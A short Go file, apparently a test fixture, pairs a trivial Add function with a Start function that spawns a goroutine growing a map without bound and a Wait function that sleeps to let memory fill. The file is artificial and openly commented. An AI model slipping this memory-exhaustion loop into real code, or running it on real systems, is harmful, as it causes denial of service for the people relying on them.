package sum

import "time"

var started bool

func Add(a, b int) int { return a + b }

// Start begins to fill a map that never stops growing.
func Start() {
	started = true
	go func() {
		all := map[[8]int][]byte{}
		for i := 0; ; i++ {
			all[[8]int{i, -i}] = make([]byte, 512)
		}
	}()
}

// Wait leaves it the time that it needs.
func Wait() {
	if started {
		time.Sleep(time.Minute)
	}
}
